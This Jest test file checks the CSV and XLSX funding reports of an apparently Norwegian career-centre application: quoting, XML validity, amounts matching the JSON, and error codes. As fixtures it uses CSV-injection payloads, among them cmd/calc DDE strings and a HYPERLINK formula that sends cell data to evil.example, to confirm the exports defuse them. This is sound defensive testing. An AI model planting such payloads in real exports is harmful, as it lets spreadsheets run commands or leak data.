import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzip } from '../../libs/application/src/audit/xlsx';
import { appendAsOldLedger } from '../helpers/append-as-old-ledger';
import { startTestApp, TestApp } from '../helpers/test-app';

/**
 * Edge cases of the spreadsheet reports (CSV and XLSX) and the registers behind them: RFC 4180
 * structure, OWASP CSV injection, XML 1.0 well-formedness of the workbook, numbers against the
 * JSON answers to the øre, unreported amounts, closed and renamed centres, names that are not
 * plain text, and stable 4xx codes.
 */

const binary = (res: any, cb: (e: Error | null, b: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

/** RFC 4180 parser with a configurable separator (CRLF records, "" escapes). */
const parseCsv = (text: string, sep = ';'): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"') {
        if (text[i + 1] === '"') { cell += '"'; i += 2; continue; }
        quoted = false; i++; continue;
      }
      cell += ch; i++; continue;
    }
    if (ch === '"' && cell === '') { quoted = true; i++; continue; }
    if (ch === sep) { row.push(cell); cell = ''; i++; continue; }
    if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    if (ch === '\n' || ch === '\r' || ch === '"') throw new Error(`bare ${JSON.stringify(ch)} outside quotes at ${i}`);
    cell += ch; i++;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
};

/** What Excel/LibreOffice would treat as a formula when the cell text is put into a cell (OWASP CSV injection). */
const looksLikeFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^-?$/.test(cell) && !/^-?\d+(,\d+)?$/.test(cell);

/** XML 1.0 `Char` production. */
const ILLEGAL_XML_CHAR = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

const pythonWellFormed = (xml: Buffer): string | null => {
  const r = spawnSync('python3', ['-c', 'import sys,xml.parsers.expat as e\np=e.ParserCreate()\ntry:\n  p.Parse(sys.stdin.buffer.read(),True);print("ok")\nexcept Exception as x:\n  print("err",x)'], { input: xml });
  if (r.error || r.status !== 0) return null; // python not available: fall back to the Char check only
  return r.stdout.toString().trim();
};

/** A worksheet's rows, each its cells by column (A = 0, columns A–Z only): style id, and the number or the inline text. */
interface SheetCell { style: string | null; number: number | null; text: string | null }
const sheetRows = (xml: string): SheetCell[][] =>
  xml.split('<row ').slice(1).map((row) => {
    const cells: SheetCell[] = [];
    for (const m of row.matchAll(/<c r="([A-Z]+)\d+"(?: s="(\d+)")?(?: t="inlineStr")?>(?:<v>([^<]*)<\/v>|<is><t xml:space="preserve">([^<]*)<\/t><\/is>)<\/c>/g)) {
      cells[m[1].charCodeAt(0) - 65] = { style: m[2] ?? null, number: m[3] === undefined ? null : Number(m[3]), text: m[4] ?? null };
    }
    return cells;
  });

describe('spreadsheet reports: edge cases', () => {
  let t: TestApp;
  let admin: { Authorization: string };
  let auditor: { Authorization: string };

  const NAMES: Record<string, { name: string; kind: string }> = {
    'p-fk': { name: 'Telemark fylkeskommune', kind: 'county-authority' },
    'p-minus': { name: "-2+3+cmd|' /C calc'!A0", kind: 'other' },
    'p-minus2': { name: '-1+1', kind: 'other' },
    'p-eq': { name: '=HYPERLINK("http://evil.example/?x="&A1,"klikk")', kind: 'nav-county-office' },
    'p-at': { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', kind: 'other' },
    'p-plus': { name: '+1+1', kind: 'other' },
    'p-union': { name: 'Utdanningsforbundet', kind: 'union' },
    'p-uni': { name: 'Universitetet i Sørøst-Norge', kind: 'university' },
  };
  /**
   * Names the API now refuses (control characters, U+FFFE) or changes (a party's name is trimmed):
   * parties recorded before those rules, or by another tool, may still hold them, so they are written
   * straight to the store.
   */
  const LEGACY: Record<string, { name: string; kind: string; countyId: string }> = {
    'p-space': { name: '  Med mellomrom  ', kind: 'other', countyId: 'telemark' },
    'p-semi': { name: 'Kommune A; "B"\nlinje 2', kind: 'municipality', countyId: 'telemark' },
    'p-tab': { name: '\t=1+1', kind: 'other', countyId: 'telemark' },
    'p-cr': { name: '\r=1+1', kind: 'other', countyId: 'telemark' },
    'vf-bad': { name: 'Ugyldig\uFFFEtegn', kind: 'other', countyId: 'vestfold' },
    'vf-ctl': { name: 'Kontroll\u0001tegn', kind: 'other', countyId: 'vestfold' },
  };
  const NAME = (id: string) => (NAMES[id] ?? LEGACY[id]).name;

  const post = async (path: string, body: object, expected = 201) => {
    const res = await t.http().post(path).set(admin).send(body);
    if (res.status !== expected) throw new Error(`${path} → ${res.status} ${JSON.stringify(res.body)}`);
    return res;
  };
  let n = 0;
  const grant = (centreId: string, partyId: string, amount: string | null, fiscalYear = 2013, kind = 'operating-grants') =>
    post(`/centres/${centreId}/funding/${kind}`, {
      entryId: `e-${++n}`, fiscalYear, partyId, decidedOn: `${fiscalYear - 1}-12-12`, reference: 'FT-sak 1/12', amount,
      ...(kind === 'other-income' ? { incomeKind: 'other' } : {}),
    });

  const get = (path: string) => t.http().get(path).set(auditor);
  const csv = async (path: string) => {
    const res = await get(path);
    expect([path, res.status]).toEqual([path, 200]);
    return res.text as string;
  };
  const xlsx = async (path: string): Promise<Map<string, Buffer>> => {
    const res = await get(path).buffer(true).parse(binary);
    expect([path, res.status]).toEqual([path, 200]);
    return unzip(res.body as Buffer);
  };
  const xlsxRaw = async (path: string): Promise<Buffer> => {
    const res = await get(path).buffer(true).parse(binary);
    expect([path, res.status]).toEqual([path, 200]);
    return res.body as Buffer;
  };

  beforeAll(async () => {
    t = await startTestApp({ seed: true });
    admin = await t.auth('admin');
    auditor = await t.auth('auditor', [], 'revisor');
    for (const [partyId, p] of Object.entries(NAMES)) await post('/parties', { partyId, ...p, countyId: 'telemark' });
    await post('/parties', { partyId: 'ost-fk', name: 'Østfold fylkeskommune & <NAV> "sammen"', kind: 'county-authority', countyId: 'ostfold' });
    for (const [partyId, p] of Object.entries(LEGACY)) {
      await appendAsOldLedger(t.store, `party-${partyId}`, 'PartyRegistered', { partyId, ...p, organisationNumber: null }, { actorRole: 'admin', expected: 'no_stream' });
    }

    // Telemark: one centre, every awkward party name, one unreported operating grant from the county.
    await post('/centres', { centreId: 'kc-tm', countyId: 'telemark', name: 'Karrieresenter Telemark', municipality: 'Skien', openedOn: '2009-01-01' });
    await grant('kc-tm', 'p-fk', '2363000.00');
    await grant('kc-tm', 'p-fk', null);
    await grant('kc-tm', 'p-eq', '1325000.10');
    await grant('kc-tm', 'p-semi', '1234567.89');
    await grant('kc-tm', 'p-minus', '0.05', 2013, 'other-income');
    await grant('kc-tm', 'p-minus2', '0.01', 2013, 'other-income');
    await grant('kc-tm', 'p-space', '10.01', 2013, 'other-income');
    await grant('kc-tm', 'p-at', '1.00', 2013, 'other-income');
    await grant('kc-tm', 'p-plus', '1.00', 2013, 'other-income');
    await grant('kc-tm', 'p-tab', '1.00', 2013, 'other-income');
    await grant('kc-tm', 'p-cr', '1.00', 2013, 'other-income');
    await grant('kc-tm', 'p-union', '100.00', 2013, 'other-income');
    await grant('kc-tm', 'p-uni', '100.00', 2013, 'other-income');

    // Østfold: a centre renamed from 2099 only, one closed in 2012, one closed mid-2013.
    await post('/centres', { centreId: 'kc-ost1', countyId: 'ostfold', name: 'Karriere Østfold', municipality: 'Sarpsborg', openedOn: '2010-01-01' });
    await post('/centres', { centreId: 'kc-ost2', countyId: 'ostfold', name: 'Lukket 2012', municipality: 'Halden', openedOn: '2010-01-01' });
    await post('/centres', { centreId: 'kc-ost3', countyId: 'ostfold', name: 'Lukket midt i 2013', municipality: 'Moss', openedOn: '2010-01-01' });
    await grant('kc-ost1', 'ost-fk', '690400.00');
    await grant('kc-ost2', 'ost-fk', '5000.00', 2012);
    await grant('kc-ost3', 'ost-fk', '333.33');
    await post('/centres/kc-ost2/close', { closedOn: '2012-06-30', reason: 'Nedlagt' }, 200);
    await post('/centres/kc-ost3/close', { closedOn: '2013-06-30', reason: 'Nedlagt' }, 200);
    await post('/centres/kc-ost1/rename', { name: 'Fremtidig navn fra 2099', effectiveFrom: '2099-01-01' }, 200);

    // Vestfold: parties whose names hold characters XML 1.0 forbids.
    await post('/centres', { centreId: 'kc-vf', countyId: 'vestfold', name: 'Karrieresenter Vestfold', municipality: 'Tønsberg', openedOn: '2010-01-01' });
    await grant('kc-vf', 'vf-bad', '100.00', 2013, 'other-income');
    await grant('kc-vf', 'vf-ctl', '100.00', 2013, 'other-income');

    // A county registered (by an admin) with a formula as its name, with one centre.
    await post('/counties', { countyId: 'formelfylke', name: '=HYPERLINK("http://evil.example","Fylke")', countyNumber: '98' });
    await post('/centres', { centreId: 'kc-formel', countyId: 'formelfylke', name: 'Formelsenter', municipality: 'X', openedOn: '2010-01-01' });
    // Its own county authority: money of another county's party is refused (ENTRY.PARTY_OF_OTHER_COUNTY).
    await post('/parties', { partyId: 'formel-fk', name: 'Formelfylke fylkeskommune', kind: 'county-authority', countyId: 'formelfylke' });
    await grant('kc-formel', 'formel-fk', '1.00');

    // Troms: renames recorded out of date order (mid-2013, then from March 2013, then from 2099),
    // and county money whose amount was never reported.
    await post('/parties', { partyId: 'tr-fk', name: 'Troms fylkeskommune', kind: 'county-authority', countyId: 'troms' });
    await post('/parties', { partyId: 'tr-kom', name: 'Tromsø kommune', kind: 'municipality', countyId: 'troms' });
    await post('/centres', { centreId: 'kc-tr', countyId: 'troms', name: 'Karrieresenter Tromsø', municipality: 'Tromsø', openedOn: '2010-01-01' });
    await grant('kc-tr', 'tr-fk', null, 2012);
    await grant('kc-tr', 'tr-fk', null);
    await grant('kc-tr', 'tr-kom', '500.00', 2013, 'other-income');
    await post('/centres/kc-tr/rename', { name: 'Karriere Troms', effectiveFrom: '2013-07-01' }, 200);
    await post('/centres/kc-tr/rename', { name: 'Mellomnavn', effectiveFrom: '2013-03-01' }, 200);
    await post('/centres/kc-tr/rename', { name: 'Fremtid Troms', effectiveFrom: '2099-01-01' }, 200);
  }, 60_000);
  afterAll(() => t.close());

  // ---- CSV structure ----

  it('funding-mix CSV: BOM, CRLF, RFC 4180 quoting keeps ; " and newlines inside one cell, spaces kept', async () => {
    const text = await csv('/reports/funding-mix/2013/csv?county=telemark');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text.slice(1));
    const first = rows.map((r) => r[0]);
    expect(first).toContain('Kommune A; "B"\nlinje 2');
    expect(first).toContain('  Med mellomrom  ');
    // every data row of the party table has the six columns
    const semi = rows.find((r) => r[0] === 'Kommune A; "B"\nlinje 2')!;
    expect(semi.slice(0, 3)).toEqual(['Kommune A; "B"\nlinje 2', 'Kommune', '1234567,89']);
  });

  it('CSV injection: names starting with =, +, @, tab, CR are defused (OWASP)', async () => {
    const rows = parseCsv((await csv('/reports/funding-mix/2013/csv?county=telemark')).slice(1));
    for (const id of ['p-eq', 'p-at', 'p-plus', 'p-tab', 'p-cr']) {
      const name = NAME(id);
      const cells = rows.flat().filter((c) => c === name || c.slice(1) === name);
      expect([id, cells.length > 0]).toEqual([id, true]);
      for (const c of cells) expect([id, c, looksLikeFormula(c)]).toEqual([id, c, false]);
    }
  });

  it('CSV injection: a party name starting with "-" and a digit (e.g. -2+3+cmd|…) is defused too (OWASP lists "-")', async () => {
    const rows = parseCsv((await csv('/reports/funding-mix/2013/csv?county=telemark')).slice(1));
    const offending = rows.flat().filter((c) => c === NAMES['p-minus'].name || c === NAMES['p-minus2'].name);
    // Expected: the cell is written as text (e.g. with a leading apostrophe), never as "-2+3+cmd|' /C calc'!A0" or "-1+1".
    expect(offending).toEqual([]);
  });

  it('CSV injection: /key-figures/:year?format=csv defuses a county name that is a formula', async () => {
    const res = await get('/key-figures/2013?format=csv&counties=formelfylke');
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text.slice(1), ',');
    expect(rows[0].length).toBe(2);
    expect([rows[0][1], looksLikeFormula(rows[0][1])]).toEqual([rows[0][1], false]);
  });

  it('CSV injection: the reports key-figures CSV defuses the same county name', async () => {
    const rows = parseCsv((await csv('/reports/key-figures/2013/csv?county=formelfylke')).slice(1));
    expect(looksLikeFormula(rows[0][1])).toBe(false);
    expect(rows[0][1]).toContain('HYPERLINK');
  });

  // ---- numbers against JSON ----

  it('funding-mix CSV: every party amount and share equals the JSON to the øre, with decimal comma; a total missing unreported amounts says "+ ikke oppgitt" (README: report routes)', async () => {
    const json = (await get('/counties/telemark/funding-mix/2013')).body;
    const rows = parseCsv((await csv('/reports/funding-mix/2013/csv?county=telemark')).slice(1));
    const header = rows.findIndex((r) => r[0] === 'Finansiør' && r[1] === 'Type part');
    // As the README writes such a total: `<sum> + ikke oppgitt`, or `ikke oppgitt` when no amount was reported.
    const text = (a: { amount: string | null; unreportedEntries: number }) => (a.amount === null ? (a.unreportedEntries > 0 ? 'ikke oppgitt' : '') : `${a.amount.replace('.', ',')}${a.unreportedEntries > 0 ? ' + ikke oppgitt' : ''}`);
    expect(json.byParty.some((p: any) => p.unreportedEntries > 0)).toBe(true);
    for (let i = 0; i < json.byParty.length; i++) {
      const p = json.byParty[i];
      const r = rows[header + 1 + i];
      expect([p.partyId, r[2], r[3]]).toEqual([p.partyId, text(p), p.sharePercent === null ? '' : p.sharePercent.replace('.', ',')]);
    }
    const sum = rows.find((r) => r[0] === 'Sum')!;
    expect(sum[2]).toBe(text(json.total));
    const shares = json.byParty.filter((p: any) => p.sharePercent !== null).reduce((s: number, p: any) => s + Math.round(Number(p.sharePercent) * 10), 0);
    expect(shares).toBe(1000);
  });

  it('reports key-figures CSV: a county total with some amounts unreported says so ("<sum> + ikke oppgitt"), as the JSON and /key-figures CSV do', async () => {
    const json = (await get('/key-figures/2013?counties=telemark')).body;
    // A county named twice is one column, in JSON and CSV alike.
    expect((await get('/key-figures/2013?counties=telemark,telemark')).body.counties.map((c: any) => c.countyId)).toEqual(['telemark']);
    expect(parseCsv((await get('/key-figures/2013?format=csv&counties=telemark, telemark')).text.slice(1), ',')[0]).toHaveLength(2);
    const f = json.counties[0].money['operatingGrant.countyAuthority'];
    expect(f).toMatchObject({ amount: '2363000.00', entries: 2, unreportedEntries: 1 });
    const plain = parseCsv((await get('/key-figures/2013?format=csv&counties=telemark')).text.slice(1), ',');
    expect(plain.find((r) => r[0] === 'Driftsmidler fra fylkeskommunen, kr')![1]).toBe('2363000.00 + ikke oppgitt');
    const rows = parseCsv((await csv('/reports/key-figures/2013/csv?county=telemark')).slice(1));
    const cell = rows.find((r) => r[0] === 'Driftsmidler fra fylkeskommunen, kr')![1];
    expect(cell).toBe('2363000,00 + ikke oppgitt');
  });

  it('reports key-figures CSV equals the JSON key figures cell by cell (counts, staff-years, indicators, NOK)', async () => {
    const json = (await get('/key-figures/2013')).body;
    const rows = parseCsv((await csv('/reports/key-figures/2013/csv')).slice(1));
    expect(rows[0].slice(1).length).toBe(json.counties.length);
    const row = (label: string) => rows.find((r) => r[0] === label)!.slice(1);
    expect(row('Antall karrieresentre')).toEqual(json.counties.map((c: any) => String(c.centres)));
    expect(row('Årsverk')).toEqual(json.counties.map((c: any) => c.staffYears.replace('.', ',')));
    expect(row('Driftsmidler fra NAV fylke')).toEqual(json.counties.map((c: any) => c.money['operatingGrant.navCountyOffice'].indicator));
    expect(row('Driftsmidler fra NAV fylke, kr')).toEqual(json.counties.map((c: any) => c.money['operatingGrant.navCountyOffice'].amount?.replace('.', ',') ?? ''));
  });

  // ---- closed and renamed centres ----

  it('a centre closed in 2012 is not in the 2013 county report; one closed mid-2013 is, as in the JSON', async () => {
    const json = (await get('/counties/ostfold/funding-mix/2013')).body;
    expect(json.centreIds.sort()).toEqual(['kc-ost1', 'kc-ost3']);
    const rows = parseCsv((await csv('/reports/funding-mix/2013/csv?county=ostfold')).slice(1));
    const perCentre = rows.findIndex((r) => r[0] === 'Per karrieresenter');
    const names = rows.slice(perCentre + 1).filter((r) => r.length > 2).map((r) => r[0]);
    expect(names).not.toContain('Lukket 2012');
    expect(names).toContain('Lukket midt i 2013');
    expect(rows.find((r) => r[0] === 'Sum')![2]).toBe(json.total.amount.replace('.', ','));
    const kf = parseCsv((await csv('/reports/key-figures/2013/csv?county=ostfold')).slice(1));
    expect(kf.find((r) => r[0] === 'Antall karrieresentre')![1]).toBe('2');
    // the closed centre's own mix still shows what is recorded for it (README)
    const own = parseCsv((await csv('/reports/funding-mix/2012/csv?centre=kc-ost2')).slice(1));
    expect(own.find((r) => r[0] === 'Sum')![2]).toBe('5000,00');
  });

  it('a centre renamed only from 2099 is not shown under that future name in the 2013 report', async () => {
    const rows = parseCsv((await csv('/reports/funding-mix/2013/csv?county=ostfold')).slice(1));
    const centre = parseCsv((await csv('/reports/funding-mix/2013/csv?centre=kc-ost1')).slice(1));
    expect([rows.flat().includes('Fremtidig navn fra 2099'), centre[0][0]]).toEqual([false, 'Finansieringsmiks 2013, karrieresenter: Karriere Østfold']);
  });

  // ---- party kinds ----

  it('every party kind has a Norwegian label in the funding-mix report (no English ids such as "union")', async () => {
    const rows = parseCsv((await csv('/reports/funding-mix/2013/csv?county=telemark')).slice(1));
    const kindOf = (name: string) => rows.find((r) => r[0] === name)![1];
    expect(kindOf('Utdanningsforbundet')).not.toBe('union');
    expect(kindOf('Universitetet i Sørøst-Norge')).not.toBe('university');
  });

  // ---- XLSX ----

  it('XLSX passes `unzip -t` and every part is well-formed XML 1.0, with & < > " escaped', async () => {
    const buf = await xlsxRaw('/reports/2013/xlsx?county=ostfold');
    const dir = mkdtempSync(join(tmpdir(), 'xlsx-review-'));
    try {
      const file = join(dir, 'r.xlsx');
      writeFileSync(file, buf);
      let out = '';
      try { out = execFileSync('unzip', ['-t', file]).toString(); } catch (e: any) { out = `FAILED ${e.stdout ?? e.message}`; }
      if (!/No such file|ENOENT/.test(out)) expect(out).toMatch(/No errors detected/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    const files = unzip(buf);
    for (const [name, data] of files) {
      const text = data.toString('utf8');
      expect([name, ILLEGAL_XML_CHAR.test(text)]).toEqual([name, false]);
      const py = pythonWellFormed(data);
      if (py !== null) expect([name, py]).toEqual([name, 'ok']);
    }
    const sheet2 = files.get('xl/worksheets/sheet2.xml')!.toString('utf8');
    expect(sheet2).toContain('Østfold fylkeskommune &amp; &lt;NAV&gt; &quot;sammen&quot;');
  });

  it('XLSX stays readable when a party name holds U+FFFE (not an XML 1.0 character); U+0001 is dropped', async () => {
    const files = await xlsx('/reports/2013/xlsx?county=vestfold');
    const sheet2 = files.get('xl/worksheets/sheet2.xml')!;
    const text = sheet2.toString('utf8');
    expect(text).toContain('Kontrolltegn');
    expect(ILLEGAL_XML_CHAR.exec(text)?.[0].codePointAt(0)?.toString(16)).toBeUndefined();
    const py = pythonWellFormed(sheet2);
    if (py !== null) expect(py).toBe('ok');
  });

  it('XLSX numbers are numeric cells with the JSON values to the øre; percent as fraction', async () => {
    const json = (await get('/counties/telemark/funding-mix/2013')).body;
    const files = await xlsx('/reports/2013/xlsx?county=telemark');
    const sheet2 = files.get('xl/worksheets/sheet2.xml')!.toString('utf8');
    const semi = json.byParty.find((p: any) => p.partyId === 'p-semi');
    const row = sheet2.split('<row ').find((r) => r.includes('Kommune A; &quot;B&quot;\nlinje 2</t>'))!;
    expect(row).toMatch(new RegExp(`<c r="C\\d+" s="2"><v>${semi.amount.replace(/0+$/, '').replace(/\.$/, '')}</v></c>`));
    expect(row).toMatch(new RegExp(`<c r="D\\d+" s="5"><v>${Number(semi.sharePercent) / 100}</v></c>`));
    const sheet1 = files.get('xl/worksheets/sheet1.xml')!.toString('utf8');
    // numbers are never stored as text
    expect(sheet1).not.toMatch(/t="inlineStr"><is><t xml:space="preserve">-?\d+([.,]\d+)?<\/t>/);
    expect(sheet2).not.toMatch(/t="inlineStr"><is><t xml:space="preserve">-?\d+([.,]\d+)?<\/t>/);
    // workbook sheet names
    const wb = files.get('xl/workbook.xml')!.toString('utf8');
    expect(wb).toContain('name="Nøkkeltall 2013"');
    expect(wb).toContain('name="Finansieringsmiks 2013"');
  });

  it('XLSX: text cells starting with = are inline strings, never formulas (<f>)', async () => {
    const files = await xlsx('/reports/2013/xlsx?county=telemark');
    for (const [name, data] of files) expect([name, /<f[ >]/.test(data.toString('utf8'))]).toEqual([name, false]);
  });

  // ---- bad input: clear 4xx with a stable code ----

  it('bad input is a clear 4xx with a stable code, on every report route', async () => {
    const cases: [string, number, string][] = [
      ['/reports/funding-mix/2013/csv?county=nowhere', 404, 'COUNTY.NOT_FOUND'],
      ['/reports/funding-mix/2013/csv?centre=nowhere', 404, 'CENTRE.NOT_FOUND'],
      ['/reports/2013/xlsx?county=nowhere', 404, 'COUNTY.NOT_FOUND'],
      ['/reports/2013/xlsx?centre=nowhere', 404, 'CENTRE.NOT_FOUND'],
      ['/reports/key-figures/2013/csv?county=nowhere', 404, 'COUNTY.NOT_FOUND'],
      ['/reports/key-figures/abcd/csv', 400, 'FISCAL_YEAR.OUT_OF_RANGE'],
      ['/reports/key-figures/1989/csv', 400, 'FISCAL_YEAR.OUT_OF_RANGE'],
      ['/reports/2101/xlsx', 400, 'FISCAL_YEAR.OUT_OF_RANGE'],
      ['/reports/funding-mix/2013/csv?asOf=yesterday', 400, 'REQUEST.BAD_AS_OF'],
      ['/reports/2013/xlsx?county=%3Dcmd', 400, 'VALIDATION.FAILED'],
      ['/reports/funding-mix/2013/csv?county=troms&centre=kc-tr', 400, 'REPORT.ONE_FILTER'],
      ['/reports/2013/xlsx?county=troms&centre=kc-tr', 400, 'REPORT.ONE_FILTER'],
      ['/reports/key-figures/2013/csv?centre=kc-tr', 400, 'VALIDATION.UNKNOWN_FIELD'],
      ['/reports/key-figures/2013/csv?county=troms&centre=kc-tr', 400, 'VALIDATION.UNKNOWN_FIELD'],
      ['/reports/funding-mix/2013/csv?bogus=1', 400, 'VALIDATION.UNKNOWN_FIELD'],
    ];
    for (const [path, status, code] of cases) {
      const res = await get(path);
      expect([path, res.status]).toEqual([path, status]);
      if (code !== 'VALIDATION.FAILED') expect([path, res.body.code]).toEqual([path, code]);
      else expect([path, typeof res.body.code]).toEqual([path, 'string']);
    }
  });

  it('a finance officer asking ?county=<another county> gets what the JSON routes give them (no more)', async () => {
    const fo = await t.auth('finance-officer', ['telemark'], 'fo-tm');
    const report = await t.http().get('/reports/funding-mix/2013/csv?county=ostfold').set(fo);
    const json = await t.http().get('/counties/ostfold/funding-mix/2013').set(fo);
    expect(report.status).toBe(json.status);
  });

  // ---- defusing: one rule for both CSVs ----

  it('CSV: a text starting with "-" and a digit gets a leading apostrophe; the bare indicator "-" stays "-", in both CSVs', async () => {
    const mix = parseCsv((await csv('/reports/funding-mix/2013/csv?county=telemark')).slice(1));
    expect(mix.flat()).toEqual(expect.arrayContaining([`'${NAMES['p-minus'].name}`, `'${NAMES['p-minus2'].name}`, `'${NAMES['p-plus'].name}`, `'${NAME('p-tab')}`]));
    const report = parseCsv((await csv('/reports/key-figures/2013/csv?county=telemark')).slice(1));
    const plain = parseCsv((await get('/key-figures/2013?format=csv&counties=telemark')).text.slice(1), ',');
    for (const rows of [report, plain]) {
      expect(rows.find((r) => r[0] === 'Anbud vunnet fra NAV fylke')![1]).toBe('-');
      expect(rows.find((r) => r[0] === 'Ansatte per 31.12 i NAV lokal')![1]).toBe('-');
    }
    const formula = parseCsv((await get('/key-figures/2013?format=csv&counties=formelfylke')).text.slice(1), ',');
    expect(formula[0][1]).toBe(`'=HYPERLINK("http://evil.example","Fylke")`);
  });

  // ---- unreported amounts ----

  it('key-figures CSVs: "ikke oppgitt" when no amount of the county\'s money was reported, the same in both', async () => {
    const json = (await get('/key-figures/2013?counties=troms')).body.counties[0].money['operatingGrant.countyAuthority'];
    expect(json).toMatchObject({ amount: null, entries: 1, unreportedEntries: 1 });
    const report = parseCsv((await csv('/reports/key-figures/2013/csv?county=troms')).slice(1));
    const plain = parseCsv((await get('/key-figures/2013?format=csv&counties=troms')).text.slice(1), ',');
    for (const rows of [report, plain]) expect(rows.find((r) => r[0] === 'Driftsmidler fra fylkeskommunen, kr')![1]).toBe('ikke oppgitt');
    // the CSV says it in the cell, so it has no row of counts
    expect(report.some((r) => r[0].endsWith('poster uten oppgitt beløp'))).toBe(false);
  });

  it('XLSX «Nøkkeltall»: NOK cells stay numbers; after each NOK row with unreported entries a row counts them per county (0 where none)', async () => {
    const json = (await get('/key-figures/2013')).body;
    const files = await xlsx('/reports/2013/xlsx');
    const rows = sheetRows(files.get('xl/worksheets/sheet1.xml')!.toString('utf8'));
    const labels = rows.map((r) => r[0]?.text ?? '');
    const at = labels.indexOf('Driftsmidler fra fylkeskommunen, kr');
    expect(labels[at + 1]).toBe('Driftsmidler fra fylkeskommunen: poster uten oppgitt beløp');
    const counts = rows[at + 1].slice(1).map((c) => ({ style: c.style, n: c.number }));
    expect(counts).toEqual(json.counties.map((c: any) => ({ style: '3', n: c.money['operatingGrant.countyAuthority'].unreportedEntries })));
    expect(counts.some((c) => c.n === 0)).toBe(true);
    const column = (countyId: string) => 1 + json.counties.findIndex((c: any) => c.countyId === countyId);
    expect(rows[at][column('telemark')]).toEqual({ style: '2', number: 2363000, text: null });
    expect(rows[at][column('troms')].text).toBe('ikke oppgitt');
    // a NOK row without unreported entries anywhere has no row of counts
    const nav = labels.indexOf('Driftsmidler fra NAV fylke, kr');
    expect(json.counties.every((c: any) => c.money['operatingGrant.navCountyOffice'].unreportedEntries === 0)).toBe(true);
    expect(labels[nav + 1]).toBe('Driftsmidler fra NAV lokal');
    expect(labels.filter((l) => l.endsWith(': poster uten oppgitt beløp'))).toEqual(['Driftsmidler fra fylkeskommunen: poster uten oppgitt beløp']);
  });

  // ---- a centre's name in a year ----

  it('a centre is named in each year as it was then (the rename in force on 31 December, whatever order renames were recorded in), never by a future name', async () => {
    const scopeName = async (year: number) => (await get(`/centres/kc-tr/funding-mix/${year}`)).body.scope.name;
    expect([await scopeName(2012), await scopeName(2013), await scopeName(2098), await scopeName(2099)]).toEqual(['Karrieresenter Tromsø', 'Karriere Troms', 'Karriere Troms', 'Fremtid Troms']);
    expect((await get('/counties/troms/funding-mix/2012')).body.parts).toEqual([expect.objectContaining({ id: 'kc-tr', name: 'Karrieresenter Tromsø' })]);
    expect((await get('/counties/troms/funding-mix/2013')).body.parts).toEqual([expect.objectContaining({ id: 'kc-tr', name: 'Karriere Troms' })]);
    const centre2013 = parseCsv((await csv('/reports/funding-mix/2013/csv?centre=kc-tr')).slice(1));
    expect(centre2013[0][0]).toBe('Finansieringsmiks 2013, karrieresenter: Karriere Troms');
    const county2012 = (await xlsx('/reports/2012/xlsx?county=troms')).get('xl/worksheets/sheet2.xml')!.toString('utf8');
    expect(county2012).toContain('>Karrieresenter Tromsø</t>');
    expect(county2012).not.toMatch(/Mellomnavn|Karriere Troms<|Fremtid Troms/);
  });

  // ---- party kinds ----

  it('party kinds read in Norwegian: union → Fagforening, university → Universitet/høgskole', async () => {
    const rows = parseCsv((await csv('/reports/funding-mix/2013/csv?county=telemark')).slice(1));
    const kindOf = (name: string) => rows.find((r) => r[0] === name)![1];
    expect([kindOf('Utdanningsforbundet'), kindOf('Universitetet i Sørøst-Norge')]).toEqual(['Fagforening', 'Universitet/høgskole']);
  });

  // ---- names that are not plain text ----

  it('names with control characters, U+FFFE/U+FFFF or a lone surrogate are refused: 400 VALIDATION.NOT_PLAIN_TEXT, nothing recorded', async () => {
    const before = (await t.store.readAll({ maxCount: 1_000_000 })).length;
    const bad = ['Nul\u0000l', 'Start\u0001', 'Linje\nskift', 'Tab\tulator', 'Vogn\rretur', 'Del\u007f', 'C1\u0085', 'Ikke\uFFFEtegn', 'Ikke\uFFFFtegn', 'Halv\uD800', 'Halv\uDC00'];
    const attempts: [string, string, object][] = [];
    for (const name of bad) {
      attempts.push([name, '/parties', { partyId: 'p-refused', name, kind: 'other', countyId: 'telemark' }]);
      attempts.push([name, '/parties/p-fk/rename', { name }]);
      attempts.push([name, '/counties', { countyId: 'refused', name, countyNumber: '97' }]);
      attempts.push([name, '/centres', { centreId: 'kc-refused', countyId: 'telemark', name, municipality: 'Skien', openedOn: '2010-01-01' }]);
      attempts.push([name, '/centres/kc-tm/rename', { name, effectiveFrom: '2014-01-01' }]);
    }
    for (const [name, path, body] of attempts) {
      const res = await t.http().post(path).set(admin).send(body);
      expect([JSON.stringify(name), path, res.status, res.body.code]).toEqual([JSON.stringify(name), path, 400, 'VALIDATION.NOT_PLAIN_TEXT']);
      expect(res.body.details.fields).toEqual([{ field: 'name', problems: [expect.stringContaining('must be plain text')] }]);
    }
    expect((await t.store.readAll({ maxCount: 1_000_000 })).length).toBe(before);
    // an unknown field still names the answer's code
    const both = await t.http().post('/parties').set(admin).send({ partyId: 'p-refused', name: 'Start\u0001', kind: 'other', isAdmin: true });
    expect([both.status, both.body.code]).toEqual([400, 'VALIDATION.UNKNOWN_FIELD']);
    // what a name may hold: letters of any script, emoji, punctuation, even a formula (defused in CSVs)
    await post('/parties', { partyId: 'p-plain', name: 'Sámi allaskuvla & <NAV> "sammen" 😀 =1+1', kind: 'university', countyId: 'telemark' });
  });
});
